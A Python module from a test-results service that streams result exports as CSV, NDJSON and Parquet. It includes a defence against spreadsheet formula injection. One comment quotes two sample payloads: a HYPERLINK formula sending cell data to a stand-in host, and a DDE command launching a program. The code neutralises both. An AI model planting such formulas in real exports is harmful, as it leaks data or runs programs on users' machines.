"""Results in bulk as flat rows (CSV, NDJSON, Parquet), encoded chunk by chunk as they are read
(export_rows.py), so memory stays flat whatever the export's size.

Parquet goes through pyarrow, an optional extra (`pip install 'qahub-lite[parquet]'`); without
it `require_parquet` raises `Invalid` with how to get it (a 400, never a 500): the one-file
executable leaves pyarrow out, it alone would be larger than the executable's size budget.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import msgspec

from .errors import Invalid
from .export_rows import FIELDS, RUN_FIELDS, IsoTimes, ResultFilter, RunContext, iter_chunks, run_values

MEDIA_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "ndjson": "application/x-ndjson",
    "parquet": "application/vnd.apache.parquet",
}
# Parquet row groups: big enough for good compression and fast scans, small enough that one
# group's columns (the only thing held) stay a few tens of MB.
PARQUET_ROW_GROUP = 65536
# ...and a group is written once its error messages reach this much text, whatever its rows:
# 65,536 messages of 1 MB each would be 64 GB held.
PARQUET_GROUP_TEXT_CHARS = 64 * 1024 * 1024
PARQUET_MISSING = (
    "Parquet export needs pyarrow, which this installation lacks (the one-file executable leaves it out: "
    "it is larger than the executable itself). Install the extra with pip install 'qahub-lite[parquet]', "
    "or export format=csv or format=ndjson"
)


def require_parquet():
    """pyarrow's parquet module, or Invalid saying how to get it."""
    try:
        import pyarrow  # noqa: F401
        import pyarrow.parquet as pq
    except ImportError:
        raise Invalid(PARQUET_MISSING) from None
    return pq


# Positions in the row tuple of db/exports.result_rows: flaky is 0/1 there and a boolean out
# here; executed_at (the last) is epoch ms there and ISO 8601 text out here.
_FLAKY, _ERROR, _EXECUTED = 8, 11, 13

_TYPES = {"line": int, "test_id": int, "result_id": int, "attempts": int, "duration_ms": int, "flaky": bool}
# One NDJSON line: a Struct built positionally encodes several times faster than a dict.
_Line = msgspec.defstruct("ExportLine", [(name, _TYPES.get(name, str) | None) for name in FIELDS])
_encoder = msgspec.json.Encoder()


def encode_ndjson(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
    prefix, line = run_values(run), _Line
    return _encoder.encode_lines([
        line(*prefix, *r[:_FLAKY], r[_FLAKY] == 1, *r[_FLAKY + 1:_EXECUTED], iso(r[_EXECUTED])) for r in rows
    ])


# A cell a spreadsheet would run as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")`
# as a test title (any write key can send one) sends the neighbouring cells away when the
# export is opened, `=cmd|' /C calc'!A0` asks to start a program. Such a cell gets a leading
# apostrophe (OWASP's advice), which spreadsheets read as "this is text"; NDJSON and Parquet
# keep every value exactly as stored.
_FORMULA_START = frozenset("=+-@\t\r")
_TEXT_CELLS = (1, 2, 3, 4, 11, 12)  # test_case_code, suite, title, file, error_message, framework


def _cell(value):
    return "'" + value if value and value[0] in _FORMULA_START else value


def _csv_line(values) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(values)
    return buffer.getvalue()


def csv_header() -> bytes:
    return _csv_line(FIELDS).encode()


def encode_csv(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
    """RFC 4180: CRLF line ends, quotes doubled; empty for a missing value (None); flaky as
    true/false. The run's columns are the same on every row of a chunk: encoded once, written
    as text before each row (twice as fast as encoding them again per row)."""
    prefix = _csv_line([_cell(v) if isinstance(v, str) else v for v in run_values(run)])[:-2] + ","
    flags, starts = ("false", "true"), _FORMULA_START
    buffer = io.StringIO()
    put, row_out = buffer.write, csv.writer(buffer, lineterminator="\r\n").writerow
    for r in rows:
        put(prefix)
        # The first characters tested inline: a call per cell would cost a third of the encoding.
        code, suite, title, file, message, framework = r[1], r[2], r[3], r[4], r[11], r[12]
        if ((code and code[0] in starts) or (suite and suite[0] in starts) or (title and title[0] in starts)
                or (file and file[0] in starts) or (message and message[0] in starts)
                or (framework and framework[0] in starts)):
            r = [_cell(v) if i in _TEXT_CELLS else v for i, v in enumerate(r)]
        row_out((*r[:_FLAKY], flags[r[_FLAKY]], *r[_FLAKY + 1:_EXECUTED], iso(r[_EXECUTED])))
    return buffer.getvalue().encode()


async def stream(db, f: ResultFilter, fmt: str) -> AsyncIterator[bytes]:
    """The export as byte chunks. Check the format (and `require_parquet`) before starting a
    response: an error here would cut the stream."""
    if fmt == "parquet":
        async for part in _parquet(db, f):
            yield part
        return
    if fmt == "csv":
        yield csv_header()
    encode, iso = encode_csv if fmt == "csv" else encode_ndjson, IsoTimes()
    async for run, rows in iter_chunks(db, f):
        yield encode(run, rows, iso)


class _Drain:
    """A write-only file for pyarrow that hands back what was written since the last drain:
    the Parquet writer writes sequentially (row groups, then the footer), so its output can
    leave as it is made instead of piling up."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []
        self.position = 0
        self.closed = False

    def write(self, data) -> int:
        chunk = bytes(data)
        self.parts.append(chunk)
        self.position += len(chunk)
        return len(chunk)

    def tell(self) -> int:
        return self.position

    def flush(self) -> None:
        pass

    def close(self) -> None:
        self.closed = True

    def writable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return False

    def drain(self) -> bytes:
        out, self.parts = b"".join(self.parts), []
        return out


def parquet_schema():
    """Typed columns: integers, a boolean `flaky`, and the two times as UTC timestamps (ms),
    which pandas, DuckDB and Spark read as datetimes; text for the rest."""
    import pyarrow as pa

    integer, when = pa.int64(), pa.timestamp("ms", tz="UTC")
    types = {
        "line": integer, "test_id": integer, "result_id": integer, "attempts": integer, "duration_ms": integer,
        "flaky": pa.bool_(), "run_created_at": when, "executed_at": when,
    }
    return pa.schema([(name, types.get(name, pa.string())) for name in FIELDS])


async def _parquet(db, f: ResultFilter) -> AsyncIterator[bytes]:
    import pyarrow as pa

    pq = require_parquet()
    schema = parquet_schema()
    sink = _Drain()
    writer = pq.ParquetWriter(pa.PythonFile(sink, mode="w"), schema, compression="zstd")
    columns: list[list] = [[] for _ in FIELDS]
    held = held_text = 0

    def flush_group() -> None:
        nonlocal columns, held, held_text
        writer.write_table(pa.Table.from_arrays([pa.array(c, type=t) for c, t in zip(columns, schema.types)],
                                                schema=schema))
        columns, held, held_text = [[] for _ in FIELDS], 0, 0

    async for run, rows in iter_chunks(db, f):
        # Column by column (a transpose in C), not value by value: three times faster.
        n = len(rows)
        # The run's creation time as epoch ms (a timestamp column), not run_values' ISO text.
        for column, value in zip(columns, (*run_values(run)[:-1], run.created_at)):
            column.extend([value] * n)
        result_columns = list(zip(*rows))
        result_columns[_FLAKY] = [flag == 1 for flag in result_columns[_FLAKY]]
        for column, values in zip(columns[len(RUN_FIELDS):], result_columns):
            column.extend(values)
        held += n
        held_text += sum(len(message) for message in result_columns[_ERROR] if message)
        if held >= PARQUET_ROW_GROUP or held_text >= PARQUET_GROUP_TEXT_CHARS:
            flush_group()
            yield sink.drain()
    if held:
        flush_group()
    writer.close()  # writes the footer; an empty export is a valid file with no row groups
    yield sink.drain()
